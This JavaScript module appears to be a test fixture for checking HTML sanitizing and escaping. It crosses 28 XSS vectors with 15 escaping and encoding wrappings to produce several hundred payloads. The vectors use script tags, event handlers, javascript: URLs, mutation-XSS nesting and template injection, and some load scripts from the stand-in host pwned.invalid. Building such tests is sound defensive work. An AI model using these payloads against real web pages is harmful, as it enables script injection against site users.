// Texts that would do something if any part of the page took them for markup, script or an address: every vector in
// every wrapping. Each would call `pwned()`, add an element with `data-pwned`, or ask for an address with `pwned` in it.

const CALL = 'top.pwned()';

const VECTORS = [
  `<script data-pwned>${CALL}</script>`,
  '<script data-pwned src="//pwned.invalid/a.js"></script>',
  '<script data-pwned src="pwned.js"></script>',
  `<img data-pwned src=pwned.png onerror=${CALL}>`,
  '<img data-pwned src="https://pwned.invalid/a.png">',
  `<svg data-pwned onload=${CALL}></svg>`,
  `<svg data-pwned><script>${CALL}</script></svg>`,
  `<svg data-pwned><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  '<svg data-pwned><use href="//pwned.invalid/a.svg#x"/></svg>',
  `<iframe data-pwned srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe data-pwned src="javascript:parent.${CALL}"></iframe>`,
  `<a data-pwned href="javascript:${CALL}">x</a>`,
  `<details data-pwned open ontoggle=${CALL}>x</details>`,
  `<input data-pwned autofocus onfocus=${CALL}>`,
  `<video data-pwned><source onerror=${CALL} src=pwned.mp4></video>`,
  `<body data-pwned onload=${CALL}>`,
  `<math data-pwned><mtext><table><mglyph><style><img src onerror=${CALL}></style></mglyph></table></mtext></math>`,
  '<object data-pwned data="//pwned.invalid/a.swf"></object>',
  '<embed data-pwned src="//pwned.invalid/a.swf">',
  '<link data-pwned rel=stylesheet href="//pwned.invalid/a.css">',
  '<style data-pwned>@import "//pwned.invalid/b.css"; body { background: url(//pwned.invalid/c.png) }</style>',
  '<meta data-pwned http-equiv=refresh content="0;url=//pwned.invalid/">',
  '<base data-pwned href="//pwned.invalid/">',
  `<form data-pwned action="javascript:${CALL}"><button>x</button></form>`,
  `<template data-pwned><script>${CALL}</script></template>`,
  '<xss data-pwned style="background:url(//pwned.invalid/d.png)">x</xss>',
  `{{constructor.constructor('${CALL}')()}}`,
  '${' + CALL + '}',
];

const WRAPPINGS = [
  (v) => v,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `</td></tr></table>${v}`,
  (v) => `</textarea></title></style></script>${v}`,
  (v) => `-->${v}<!--`,
  (v) => `]]>${v}`,
  (v) => v.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (v) => v.replaceAll('<', '＜').replaceAll('>', '＞'),
  (v) => v.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (v) => v.replaceAll('<', '<\u200b'),
  (v) => v.replace('<s', '<s\u0000').replace('<i', '<i\u0000'),
  (v) => `<<${v}>>`,
  (v) => v.toUpperCase().replaceAll('TOP.PWNED()', CALL),
  (v) => `\u202e${v}\u202c`,
];

/** Several hundred lines of text, none with a line end. */
export const PAYLOADS = [...new Set(WRAPPINGS.flatMap((wrap) => VECTORS.map(wrap)))];
